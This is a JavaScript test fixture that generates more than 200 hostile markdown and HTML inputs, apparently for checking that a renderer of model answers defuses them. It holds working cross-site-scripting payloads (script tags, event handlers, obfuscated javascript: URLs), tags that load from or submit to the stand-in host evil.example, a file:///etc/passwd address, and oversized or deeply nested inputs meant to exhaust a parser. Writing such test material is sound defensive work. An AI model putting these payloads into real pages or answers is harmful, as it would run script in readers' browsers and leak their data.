// Answers that a model, or whoever wrote what it was asked, could use against the reader's page.
// Each marks itself on window.executed where it runs, or asks another host where it loads.

const RUN = 'window.executed=1';
const HOST = 'http://evil.example';

const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`, `javascript:${RUN}//http://a`, `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD4=`,
  'blob:http://localhost/1', 'file:///etc/passwd', '//evil.example/x', '/relative', '../up',
  '#fragment', `${HOST}/" onmouseover="${RUN}`, `${HOST}/' onclick='${RUN}`,
  'http://user:word@evil.example/', 'https:evil.example', 'http:\\\\evil.example', 'about:blank',
  `view-source:${HOST}`, 'ws://evil.example', 'ftp://evil.example/x', 'http://', 'http://[',
];
const TAGS = [
  `<script>${RUN}</script>`, `<img src=x onerror="${RUN}">`, `<img src="${HOST}/1.png">`,
  `<svg onload="${RUN}"></svg>`, `<iframe src="${HOST}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`, `<object data="${HOST}"></object>`,
  `<embed src="${HOST}">`, `<link rel=stylesheet href="${HOST}/x.css">`,
  `<style>@import "${HOST}/x.css"; * { background: url(${HOST}/x) }</style>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`, `<base href="${HOST}">`,
  `<form action="${HOST}"><input autofocus onfocus="${RUN}"></form>`,
  `<video src="${HOST}/v" onerror="${RUN}"></video>`, `<audio src="${HOST}/a" autoplay></audio>`,
  `<details open ontoggle="${RUN}">x</details>`, `<a href="javascript:${RUN}">x</a>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`, `<body onload="${RUN}">`,
  `<template><script>${RUN}</script></template>`, `<!--><script>${RUN}</script>-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<br onclick="${RUN}">`, `<br/ onload="${RUN}">`, `<input type=image src="${HOST}/i">`,
  `<picture><source srcset="${HOST}/s"></picture>`, `<spike-chat model="${HOST}"></spike-chat>`,
];
/** @type {((address: string) => string)[]} where an address can stand */
const LINKS = [
  (a) => `[click](${a})`, (a) => `![picture](${a})`, (a) => `[![p](${a})](${a})`,
];
/** @type {((tag: string) => string)[]} where HTML can stand */
const PLACES = [
  (tag) => tag, (tag) => `# ${tag}`, (tag) => `| ${tag} | a |\n| --- | --- |\n| ${tag} | b |\n`,
  (tag) => `\`\`\`${tag}\n${tag}\n\`\`\`\n${tag}`,
];
const LONG = [
  '> '.repeat(3000) + 'deep', '- '.repeat(1500) + 'deep', '*_'.repeat(2000) + 'x',
  '['.repeat(3000) + 'x', '![' .repeat(2000), '[a](' + 'x'.repeat(50_000), '`'.repeat(5000),
  '|'.repeat(3000), '\n|a|'.repeat(1000), '$x'.repeat(2000), '\\('.repeat(2000),
  `${'  '.repeat(600)}- x`, '#'.repeat(500), '99999999999999999999. x', '<br>'.repeat(2000),
  'http://'.repeat(2000), '\u202e\u2066evil\u2069', '\ud800 half', '\0\u0008 controls',
  '```' + 'x'.repeat(20_000) + '\ny', '__proto__ constructor', '- [x] a\n- [ ] b\n- [y] c',
];

/** At least 200 different ones. @type {readonly string[]} */
export const HOSTILE = [
  ...ADDRESSES.flatMap((a) => LINKS.map((link) => link(a))),
  ...ADDRESSES.map((a) => `see ${a} there`),
  ...TAGS.flatMap((tag) => PLACES.map((place) => place(tag))),
  ...LONG,
];
